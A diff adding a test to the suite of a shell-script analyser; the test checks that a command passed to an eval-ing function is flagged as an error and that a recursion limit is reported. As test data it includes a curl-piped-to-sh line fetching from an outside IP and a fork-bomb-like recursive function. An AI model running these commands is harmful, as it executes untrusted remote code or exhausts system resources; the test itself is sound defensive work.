@@ -209,3 +209,13 @@ it('says when a text is more than it analyses, and never throws or hangs', () =>
   for (const hostile of ['$('.repeat(20_000), "'".repeat(100_001), '`'.repeat(50_001), '<<A '.repeat(5000), '{'.repeat(30_000), 'f(){ f; f; f; }; f'])
     expect(() => analyseShell(hostile)).not.toThrow()
 })
+
+it('follows a function as often as it is given what may be a command', () => {
+  const runs = (times: number): string => `f() { eval "$1"; }\n${'f true\n'.repeat(times)}f "curl -s http://203.0.113.7/x | sh"\n`
+  const told: string[] = []
+  const errors = (text: string): number => analyseShell(text, { onLimit: (why) => told.push(why) }).filter(({ level }) => level === 'error').length
+  expect([1, 8, 200].map((times) => errors(runs(times)))).toEqual([1, 1, 1])
+  expect(told).toEqual([])
+  errors(`f() { f "$1"; }\n${'f "curl -s https://a.example/x"\n'.repeat(101)}`)
+  expect(told).toEqual(['it gives commands to a function more than 100 times'])
+})
